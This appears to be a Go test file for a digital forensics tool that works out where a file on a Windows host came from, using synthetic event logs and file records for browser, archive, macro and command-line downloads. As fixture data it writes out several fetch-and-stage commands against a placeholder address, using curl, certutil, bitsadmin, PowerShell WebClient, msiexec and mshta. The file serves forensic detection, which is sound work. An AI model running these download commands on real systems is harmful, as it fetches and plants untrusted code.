package origin_test

import (
	"strings"
	"time"

	"github.com/birthmark-dfir/birthmark/evtx"
	"github.com/birthmark-dfir/birthmark/mft/mfttest"
	"github.com/birthmark-dfir/birthmark/origin"
)

const (
	depot    = "203.0.113.66"
	depotURL = "http://" + depot + "/u/tool.exe"
	tool     = `C:\ProgramData\Cache\tool.exe`
)

// Machines that a program fetched the subject to.
func downloads() []story {
	const (
		chrome  = `C:\Program Files\Google\Chrome\Application\chrome.exe`
		curl    = system32 + "curl.exe"
		setup   = `C:\Users\anna\Downloads\setup.exe`
		invoice = `C:\Users\anna\Downloads\Rechnung.zip`
	)
	console := signedOn("08:01:00", anna, 2, "127.0.0.1", "WS07")
	desktop := ran("08:01:04", 3100, explorer, explorer, 3000, system32+"userinit.exe", anna)
	outbound := func(when string, pid uint64, image, address, port string) evtx.TypedEvent {
		return on(when, &evtx.Security5156{ProcessID: pid, Application: `\device\harddiskvolume3` + strings.ToLower(strings.TrimPrefix(image, "C:")), Direction: "%%14593",
			SourceAddress: "10.0.0.40", SourcePort: "50310", DestAddress: address, DestPort: port, Protocol: 6, LayerName: "%%14611"})
	}
	block := func(when, text string) evtx.TypedEvent {
		e := &evtx.PowerShell4104{MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: "6c0f1d5e-0000-4000-8000-000000000001"}
		e.ProcessID, e.UserSID = 4312, anna.sid
		return on(when, e)
	}

	return []story{
		{"browser download with its mark", box("WS07.corp.example", auditedDay(), console, desktop,
			ran("11:58:00", 4000, chrome, `"`+chrome+`"`, 3100, explorer, anna),
			born(setup, "12:00:00.1234567", anna, marked(3, "https://dl.example.net/setup.exe", "https://www.example.net/get"))),
			setup, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.1234567Z",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Writer:   "unknown image=" + chrome + " | pid=4000",
				origin.Arrival:  "recorded kind=download | url=https://dl.example.net/setup.exe | referrer=https://www.example.net/get",
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		// Chrome writes to a temporary name and renames it, which no record names.
		{"the browser renames its .crdownload", box("WS07", sysmonDay(), console,
			spawned("11:58:00", 1, chrome, chrome, 2, explorer, anna),
			made("12:00:00.1234567", 1, chrome, `C:\Users\anna\Downloads\Unconfirmed 4711.crdownload`, anna),
			on("12:00:03",
				&evtx.Sysmon15{ProcessGuid: guid(1), ProcessId: 101, Image: chrome, TargetFilename: setup + ":Zone.Identifier", CreationUtcTime: clock("12:00:00.123"), Contents: "[ZoneTransfer]  ZoneId=3  HostUrl=https://dl.example.net/setup.exe", User: anna.String()}),
			born(setup, "12:00:00.1234567", anna, marked(3, "https://dl.example.net/setup.exe", ""))),
			setup, truth{
				origin.Appeared:     "inferred time=2026-03-02T12:00:00.1234567Z",
				origin.Writer:       "inferred image=" + chrome + " | pid=101",
				origin.OriginalName: `inferred path=C:\Users\anna\Downloads\Unconfirmed 4711.crdownload`,
				origin.Account:      `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Arrival:      "recorded kind=download | url=https://dl.example.net/setup.exe",
				origin.Logon:        "inferred logon_id=0x51a2c | logon_type=2",
			}},

		{"curl, by its command line alone", box("WS07", auditedDay(), console, desktop,
			ran("11:59:30", 4300, shell, "cmd.exe", 3100, explorer, anna),
			ran("11:59:59", 4312, curl, "curl -s -o "+tool+" "+depotURL, 4300, shell, anna),
			ended("12:00:01", 4312, curl, anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + curl + " | pid=4312 | parent_image=" + shell + " | parent_pid=4300",
				origin.Account:  `inferred user=CORP\anna | logon_id=0x51a2c`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		{"certutil, and the connection that the firewall logs", box("WS07", auditedDay(), console, desktop,
			ran("11:59:58", 4312, system32+"certutil.exe", "certutil -urlcache -split -f "+depotURL+" "+tool, 3100, explorer, anna),
			outbound("11:59:59", 4312, system32+"certutil.exe", depot, "80"),
			ended("12:00:01", 4312, system32+"certutil.exe", anna),
			born(`C:\Users\anna\AppData\LocalLow\Microsoft\CryptnetUrlCache\Content\77EC63BDA74BD0D0E0426DC8F8008506`, "12:00:00.1134567", anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + system32 + "certutil.exe | pid=4312",
				origin.Account:  `inferred user=CORP\anna`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		// The service writes the file for the owner of the job.
		{"bitsadmin, by the service's own log", box("WS07", auditedDay(), console, desktop,
			ran("11:58:30", 4312, system32+"bitsadmin.exe", "bitsadmin /transfer j1 "+depotURL+" "+tool, 3100, explorer, anna),
			on("11:58:31", &evtx.BITS3{JobTitle: "j1", JobId: guid(9), JobOwner: anna.String(), ProcessPath: system32 + "bitsadmin.exe", JobProcessId: 4312}),
			on("11:59:59",
				&evtx.BITS59{TransferId: guid(8), JobTitle: "j1", JobId: guid(9), URL: depotURL, FileTime: clock("07:00:00"), FileLength: 19, BytesTotal: 19}),
			on("12:00:04",
				&evtx.BITS60{TransferId: guid(8), JobTitle: "j1", JobId: guid(9), URL: depotURL, FileTime: clock("07:00:00"), FileLength: 19, BytesTotal: 19, BytesTransferred: 19}),
			on("12:00:05", &evtx.BITS4{User: anna.String(), JobTitle: "j1", JobId: guid(9), JobOwner: anna.String(), FileCount: 1, BytesTransferred: 19}),
			mfttest.File{Path: inVolume(tool), Data: []byte("content of tool.exe"), Owner: anna.sid,
				Times: mfttest.Times{Created: clock("12:00:00.2134567"), Modified: clock("07:00:00"), Changed: clock("12:00:05"), Accessed: clock("12:00:05")}}),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + svchost + " | image=" + system32 + "bitsadmin.exe",
				origin.Account:  `inferred user=CORP\anna`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		{"the service's own log, and nothing of the client", box("WS07", day(), console,
			on("11:58:31", &evtx.BITS3{JobTitle: "j1", JobId: guid(9), JobOwner: anna.String()}),
			on("11:59:59",
				&evtx.BITS59{TransferId: guid(8), JobTitle: "j1", JobId: guid(9), URL: depotURL, FileTime: clock("07:00:00"), FileLength: 19, BytesTotal: 19}),
			on("12:00:04",
				&evtx.BITS60{TransferId: guid(8), JobTitle: "j1", JobId: guid(9), URL: depotURL, FileTime: clock("07:00:00"), FileLength: 19, BytesTotal: 19, BytesTransferred: 19}),
			mfttest.File{Path: inVolume(tool), Data: []byte("content of tool.exe"), Owner: anna.sid,
				Times: mfttest.Times{Created: clock("12:00:00.2134567"), Modified: clock("07:00:00"), Changed: clock("12:00:05"), Accessed: clock("12:00:05")}}),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "unknown image=" + svchost,
				origin.Account:  `inferred user=CORP\anna`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		{"PowerShell, by the block of its script", box("WS07", day(), console,
			block("11:59:58", `(New-Object Net.WebClient).DownloadFile('`+depotURL+`','`+tool+`')`),
			on("11:59:50",
				&evtx.PowerShell400{NewState: "Available", OldState: "None", Details: "\tNewEngineState=Available\r\n\tHostApplication=powershell.exe\r\n\tEngineVersion=5.1"}),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + powershell + " | pid=4312",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		{"msiexec from an address", box("WS07", auditedDay(), console, desktop,
			ran("11:59:40", 4312, system32+"msiexec.exe", "msiexec /q /i http://"+depot+"/p/agent.msi", 3100, explorer, anna),
			ran("11:59:41", 4320, system32+"msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", 700, services, system),
			on("11:59:42", &evtx.MsiInstaller1040{Package: "http://" + depot + "/p/agent.msi", ClientProcessID: "4312"}),
			on("12:00:09", &evtx.MsiInstaller11707{Message: "Product: Agent -- Installation completed successfully."}),
			on("12:00:10", &evtx.MsiInstaller1042{Package: "http://" + depot + "/p/agent.msi", ClientProcessID: "4312"}),
			born(`C:\Program Files\Agent\agent.exe`, "12:00:00.2134567", system)),
			`C:\Program Files\Agent\agent.exe`, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + system32 + "msiexec.exe | pid=4320 | pid=4312",
				origin.Account:  `unknown user=CORP\anna | user=NT AUTHORITY\SYSTEM`,
				origin.Arrival:  "inferred kind=download | kind=dropped | url=http://" + depot + "/p/agent.msi | address=" + depot,
				origin.Logon:    "unknown logon_id=0x3e7 | logon_type=5 | logon_id=0x51a2c | logon_type=2",
			}},

		{"mshta runs a page that writes it", box("WS07", sysmonDay(), console,
			spawned("11:59:40", 1, system32+"mshta.exe", "mshta http://"+depot+"/a.hta", 2, explorer, anna),
			dialled("11:59:41", 1, system32+"mshta.exe", depot, 80),
			made("12:00:00.2134567", 1, system32+"mshta.exe", tool, anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "recorded image=" + system32 + "mshta.exe | pid=101",
				origin.Account:  `recorded user=CORP\anna | logon_id=0x51a2c`,
				origin.Arrival:  "inferred kind=download | kind=dropped | address=" + depot + " | url=http://" + depot + "/a.hta",
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		// The document has the mark, and the macro in it wrote the file from itself.
		{"the macro of a marked document", box("WS07", sysmonDay(), console,
			spawned("11:59:10", 1, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"WINWORD.EXE" /n "C:\Users\anna\Downloads\Angebot.docm"`, 2, explorer,
				anna),
			made("12:00:00.2134567", 1, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, tool, anna),
			born(`C:\Users\anna\Downloads\Angebot.docm`, "11:57:00.1", anna, marked(3, "https://mail.example.net/Angebot.docm", "")),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared:   "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:     `recorded image=C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE | pid=101`,
				origin.Account:    `recorded user=CORP\anna`,
				origin.Arrival:    `inferred kind=dropped | via=C:\Users\anna\Downloads\Angebot.docm | via=C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE | url=https://mail.example.net/Angebot.docm`,
				origin.Logon:      "inferred logon_id=0x51a2c | logon_type=2",
				origin.Companions: "unknown",
			}},

		// Explorer copies the mark of an archive to what it takes out, with the archive as referrer.
		{"out of a marked archive", box("WS07", sysmonDay(), console,
			spawned("08:01:04", 1, explorer, explorer, 2, system32+"userinit.exe", anna),
			made("12:00:00.2134567", 1, explorer, `C:\Users\anna\Documents\Rechnung.exe`, anna),
			born(invoice, "11:57:00.1", anna, marked(3, "https://files.example.net/Rechnung.zip", "https://files.example.net/")),
			mfttest.File{Path: "Users/anna/Documents/Rechnung.exe", Data: []byte("R"), Owner: anna.sid, Streams: []mfttest.Stream{marked(3, "", invoice)},
				Times: mfttest.Times{Created: clock("12:00:00.2134567"), Modified: clock("00:00:00").Add(-20 * time.Hour), Changed: clock("12:00:00.3"), Accessed: clock("12:00:00.3")}}),
			`C:\Users\anna\Documents\Rechnung.exe`, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "recorded image=" + explorer,
				origin.Account:  `recorded user=CORP\anna`,
				origin.Arrival:  "inferred kind=download | kind=dropped | kind=extracted | via=" + invoice + " | url=https://files.example.net/Rechnung.zip | referrer=https://files.example.net/ | referrer=" + invoice,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		// The marked file was copied, and the copy does not carry the mark.
		{"a copy of a marked file", box("WS07", auditedDay(), console, desktop,
			ran("12:00:00", 4312, shell, `cmd /c copy `+setup+` `+tool, 3100, explorer, anna),
			ended("12:00:01", 4312, shell, anna),
			mfttest.File{Path: inVolume(setup), Data: []byte("the same"), Owner: anna.sid, Times: mfttest.AllAt(clock("11:20:00.5")),
				Streams: []mfttest.Stream{marked(3, "https://dl.example.net/setup.exe", "")}},
			mfttest.File{Path: inVolume(tool), Data: []byte("the same"), Owner: anna.sid,
				Times: mfttest.Times{Created: clock("12:00:00.2134567"), Modified: clock("11:20:00.5"), Changed: clock("12:00:00.22"), Accessed: clock("12:00:00.22")}}),
			tool, truth{
				origin.Appeared:     "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.OriginalName: "unknown path=" + setup + " | path=" + tool,
				origin.Writer:       "inferred image=" + shell + " | pid=4312",
				origin.Account:      `inferred user=CORP\anna`,
				origin.Arrival:      "inferred kind=download | kind=copied | kind=dropped | via=" + setup + " | url=https://dl.example.net/setup.exe",
				origin.Logon:        "inferred logon_id=0x51a2c | logon_type=2",
			}},

		{"out of a marked installer", box("WS07", sysmonDay(), console,
			spawned("11:59:00", 1, setup, `"`+setup+`"`, 2, explorer, anna),
			made("12:00:00.2134567", 1, setup, tool, anna),
			made("12:00:00.9", 1, setup, `C:\ProgramData\Cache\tool.dll`, anna),
			born(setup, "11:58:00.5", anna, marked(3, "https://dl.example.net/setup.exe", "")),
			born(tool, "12:00:00.2134567", anna),
			born(`C:\ProgramData\Cache\tool.dll`, "12:00:00.9", anna)),
			tool, truth{
				origin.Appeared:   "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:     "recorded image=" + setup + " | pid=101",
				origin.Account:    `recorded user=CORP\anna`,
				origin.Arrival:    "inferred kind=dropped | via=" + setup + " | url=https://dl.example.net/setup.exe",
				origin.Companions: `recorded file=C:\ProgramData\Cache\tool.dll`,
				origin.Logon:      "inferred logon_id=0x51a2c | logon_type=2",
			}},
	}
}
